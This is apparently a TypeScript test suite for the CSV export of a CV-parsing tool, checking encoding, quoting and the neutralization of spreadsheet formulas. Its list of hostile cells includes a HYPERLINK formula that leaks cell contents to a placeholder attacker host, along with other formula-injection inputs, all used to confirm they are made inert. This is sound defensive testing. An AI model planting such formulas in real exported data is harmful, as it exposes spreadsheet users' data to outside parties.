import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { CV_CSV_HEADER, csvField, neutralizeFormula } from '../../../src/core/export/csv';
import { exportCvs } from '../../../src/core/export/exportCvs';
import { janeDoe, storeParsed } from '../helpers/sampleCvs';
import { useQueueDb } from '../helpers/queueDb';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '+1', '-2', '@SUM(A1:A9)', '\t=1+1', '\r=1+1',
  'say "hi", then leave', 'line one\nline two', 'crlf one\r\ntwo', 'Jürgen Groß', '履歴書', 'a,b', '"', '',
];

describe('CSV export', () => {
  const q = useQueueDb();
  const tmp = () => q.dir;
  const now = new Date('2026-11-28T00:00:00Z');

  async function exportAndRead(options: { status?: 'all' } = {}): Promise<{ bytes: Buffer; rows: string[][] }> {
    const out = path.join(tmp(), 'export', 'cvs.csv');
    await exportCvs(q.cvs, { format: 'csv', out, now, ...options });
    const bytes = fs.readFileSync(out);
    return { bytes, rows: parse(bytes, { bom: true, relax_column_count: false }) as string[][] };
  }

  it('writes UTF-8 with a BOM, CRLF line ends and one row per CV', async () => {
    await storeParsed(q.cvs, 'jane.pdf', janeDoe());
    const { bytes, rows } = await exportAndRead();
    assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8');
    assert.ok(text.endsWith('\r\n'));
    assert.equal(text.replace(/\r\n/g, '').includes('\n'), false, 'no bare LF');
    assert.deepEqual(rows, [
      [...CV_CSV_HEADER],
      ['Jane Q. Doe', 'jane.doe@example.com', "'+49 151 12345678", '10115 Berlin, Germany', 'Senior Software Engineer', 'Acme GmbH', '8.4',
        'TypeScript; Kubernetes; PostgreSQL', 'completed', '/cvs/jane.pdf'],
    ]);
  });

  it('round-trips hostile cells through a real CSV parser, with formulas made inert', async () => {
    for (const [i, cell] of HOSTILE.entries()) {
      await storeParsed(q.cvs, `${i}.pdf`, janeDoe({
        contact: { name: cell, email: cell, location: cell, phone: cell },
        work_history: [{ title: cell, company: cell, current: true }],
        skills: [cell, `${cell} 2`],
      }));
    }
    const { rows } = await exportAndRead();
    assert.equal(rows.length, HOSTILE.length + 1);
    for (const [i, cell] of HOSTILE.entries()) {
      const expected = /^[=+\-@\t\r]/.test(cell) ? `'${cell}` : cell;
      const row = rows[i + 1];
      assert.deepEqual(row.slice(0, 6), Array(6).fill(expected), `row ${i}: ${JSON.stringify(cell)}`);
      assert.equal(row[6], '', 'no dates, no years');
      const skills = [cell, `${cell} 2`].map((x) => x.trim()).filter(Boolean).join('; ');
      assert.equal(row[7], /^[=+\-@\t\r]/.test(skills) ? `'${skills}` : skills);
      assert.equal(row[9], `/cvs/${i}.pdf`);
    }
  });

  it('quotes only what needs quoting and neutralizes only formula starts', async () => {
    assert.equal(csvField('plain'), 'plain');
    assert.equal(csvField('a,b'), '"a,b"');
    assert.equal(csvField('say "hi"'), '"say ""hi"""');
    assert.equal(csvField('x\ny'), '"x\ny"');
    assert.equal(neutralizeFormula('=1+1'), "'=1+1");
    assert.equal(neutralizeFormula('a=1'), 'a=1');
    assert.equal(neutralizeFormula('—dash'), '—dash');
  });

  it('keeps the first ten distinct skills and leaves unparsed CVs with just status and file', async () => {
    const skills = ['A', 'b', 'B', 'c', 'd', 'e', 'f', 'g', 'h', 'i', 'j', 'k', 'l'];
    await storeParsed(q.cvs, 'many.pdf', janeDoe({ skills }));
    const failed = await q.cvs.insertQueuedCV({ filePath: '/cvs/broken, "really".pdf', fileName: 'broken.pdf' });
    await q.cvs.updateCVStatus(failed.id, 'failed', { error: 'encrypted PDF' });
    const { rows } = await exportAndRead({ status: 'all' });
    assert.equal(rows[1][7], 'A; b; c; d; e; f; g; h; i; j');
    assert.deepEqual(rows[2], ['', '', '', '', '', '', '', '', 'failed', '/cvs/broken, "really".pdf']);
  });

  it('exports only completed CVs by default, and a header alone when there are none', async () => {
    await q.cvs.insertQueuedCV({ filePath: '/cvs/q.pdf', fileName: 'q.pdf' });
    const { rows } = await exportAndRead();
    assert.deepEqual(rows, [[...CV_CSV_HEADER]]);
  });
});
